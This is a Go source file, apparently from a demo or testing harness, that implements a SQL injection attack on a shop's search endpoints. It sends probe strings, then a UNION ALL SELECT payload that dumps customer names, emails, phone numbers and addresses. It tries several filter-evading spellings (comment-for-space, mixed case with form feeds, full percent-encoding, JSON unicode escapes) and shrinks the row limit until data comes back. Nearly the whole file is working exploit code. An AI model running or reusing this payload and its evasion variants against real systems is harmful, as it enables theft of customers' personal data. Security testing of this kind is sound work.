package demo

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
)

// SQLInjection writes its own SQL into the search: it probes, and then asks
// for the customers instead of products, in several spellings, whole and in
// small pieces.
type SQLInjection struct {
	Bounds Bounds
}

// Name returns "sql injection".
func (SQLInjection) Name() string { return "sql injection" }

// Run injects. Spellings that are refused are left after their smallest piece.
func (a SQLInjection) Run(ctx context.Context, target Target) (Outcome, error) {
	r := newRaid(target, a.Bounds, true)
	for _, probe := range []string{"lamp'", "lamp%' AND 1=1 -- ", "lamp%' ORDER BY 4 -- "} {
		if !r.more() {
			break
		}
		if _, err := r.try(ctx, get("/search?"+url.Values{"q": {probe}}.Encode())); err != nil {
			return r.finish(), fmt.Errorf("probing the search: %w", err)
		}
	}
	for _, spell := range spellings() {
		if err := a.dump(ctx, r, spell); err != nil {
			return r.finish(), err
		}
	}
	return r.finish(), nil
}

// dump asks for all customers, then for fewer and fewer until some come.
func (a SQLInjection) dump(ctx context.Context, r *raid, spell func(limit, offset int) call) error {
	limits := []int{1_000_000, 50, 2, 1}
	for offset := 0; r.more(); {
		before := len(r.client.received)
		got, err := r.try(ctx, spell(limits[0], offset))
		if err != nil {
			return fmt.Errorf("injecting into the search: %w", err)
		}
		switch {
		case got.served() && len(r.client.received) == before:
			return nil // it is all there, or this spelling does not work.
		case got.served():
			offset += limits[0]
		case got.refused() && len(limits) > 1:
			limits = limits[1:]
		default:
			return nil
		}
	}
	return nil
}

// union is the statement's second half: what the search shows instead.
const union = "zzz%' UNION ALL SELECT customer_id, name, email || ' ' || phone, street || ', ' || postcode || ' ' || city || ' ' || country " +
	"FROM customers LIMIT %LIMIT% OFFSET %OFFSET% -- "

// spellings returns the requests that all mean the same to the shop.
func spellings() []func(limit, offset int) call {
	fill := func(text string, limit, offset int) string {
		return strings.NewReplacer("%LIMIT%", fmt.Sprint(limit), "%OFFSET%", fmt.Sprint(offset)).Replace(text)
	}
	search := func(q string) call { return get("/search?" + url.Values{"q": {q}}.Encode()) }
	comments := strings.NewReplacer(" ", "/**/")
	return []func(limit, offset int) call{
		func(l, o int) call { return search(fill(union, l, o)) },
		func(l, o int) call { // comments for spaces; the last one must stay.
			return search(comments.Replace(strings.TrimSuffix(fill(union, l, o), " ")) + " ")
		},
		func(l, o int) call { // mixed case, form feeds and tabs; a line feed would end the comment.
			text := strings.NewReplacer("UNION", "uNiOn", "SELECT", "sElEcT", "FROM", "fRoM", " ALL ", "\f\tAlL\f\t").Replace(union)
			return search(fill(text, l, o))
		},
		func(l, o int) call { // every byte as %XX.
			return get("/search?q=" + percent(fill(union, l, o)))
		},
		func(l, o int) call { // every byte as \u00XX, in JSON, for the app's search.
			return postJSON("/api/search", `{"q":"`+escaped(fill(union, l, o))+`"}`)
		},
		func(l, o int) call { // as the app would send it.
			body, _ := json.Marshal(map[string]string{"q": fill(union, l, o)}) // a string map never fails.
			return postJSON("/api/search", string(body))
		},
	}
}

// percent writes every byte as %XX.
func percent(text string) string {
	var out strings.Builder
	for i := range len(text) {
		fmt.Fprintf(&out, "%%%02X", text[i])
	}
	return out.String()
}

// escaped writes every byte of an ASCII text as a JSON escape.
func escaped(text string) string {
	var out strings.Builder
	for i := range len(text) {
		fmt.Fprintf(&out, `\u%04x`, text[i])
	}
	return out.String()
}
